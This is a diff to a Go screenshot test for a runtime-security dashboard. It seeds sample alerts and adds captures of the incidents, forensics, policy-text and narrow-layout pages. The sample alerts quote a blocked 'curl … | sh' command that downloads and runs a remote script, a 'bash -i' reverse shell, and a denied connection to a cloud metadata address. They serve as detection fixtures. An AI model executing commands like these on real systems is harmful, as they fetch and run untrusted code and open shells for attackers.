@@ -334,6 +334,8 @@ func TestPictures(t *testing.T) {
 			Msg: "Outbound connection /usr/bin/node to IP 169.254.169.254 is explicitly denied by a runtime rule", ProcessPath: "/usr/bin/node", IP: "169.254.169.254", Port: 80},
 		{Type: "processes", Effect: "block", RuleName: "shop, production", AttackType: "explicitlyDeniedProcess", AppID: "shop", ContainerName: "web", Level: "refused", Refused: true,
 			Msg: "/usr/bin/dash launched and is explicitly denied by runtime rule. Full command: sh -c 'curl -s http://198.51.100.7/x.sh | sh -s -- --id 4b1f7c2e9a --quiet --install-dir /dev/shm/.cache && rm -f /tmp/x'"},
+		{Type: "processes", Effect: "alert", RuleName: "default", AttackType: "reverseShell", Category: "reverseShell", Incident: true, AppID: "reports", ContainerName: "worker", Level: "verified",
+			Msg: "/usr/bin/bash launched and is identified as a reverse shell. Full command: bash -i", ProcessPath: "/usr/bin/bash", Command: "bash -i"},
 		{Type: "network", Effect: "prevent", DryRun: true, RuleName: "sample", AppID: "staging", Msg: "DNS resolution of domain name tracker.test triggered by /usr/bin/python3.11 explicitly denied by a runtime rule"},
 	} {
 		r.Time = now.Add(-time.Duration(i*i) * 41 * time.Second)
@@ -361,6 +363,14 @@ func TestPictures(t *testing.T) {
 		p.Shot("rule" + suffix)
 		p.Click("#tab-networking")
 		p.Shot("rule-net" + suffix)
+		p.Open(textPath)
+		p.Shot("policy-text" + suffix)
+		p.Open(learnPath + "?appID=shop&effect=prevent")
+		p.Shot("learn" + suffix)
+		p.Open(incidentsPath)
+		p.Shot("incidents" + suffix)
+		p.Open(forensicsPath + "?instance=" + d.Instance)
+		p.Shot("forensics" + suffix)
 		p.Open(tokensPath)
 		p.Shot("tokens" + suffix)
 		p.Open(usersPath)
@@ -372,10 +382,13 @@ func TestPictures(t *testing.T) {
 	}
 	p.Scheme("light")
 	p.Size(420, 800)
-	p.Open(eventsPath)
-	p.Shot("audits-narrow")
-	p.Open(rulePath + "?name=sample")
-	p.Shot("rule-narrow")
+	for name, path := range map[string]string{
+		"audits": eventsPath, "incidents": incidentsPath, "rules": runtimePath, "rule": rulePath + "?name=sample", "policy-text": textPath,
+		"learn": learnPath, "defenders": defendersPath, "tokens": tokensPath, "users": usersPath, "changes": changesPath,
+	} {
+		p.Open(path)
+		p.Shot(name + "-narrow")
+	}
 }
 
 // breakLines ends all connections, also those that stream.
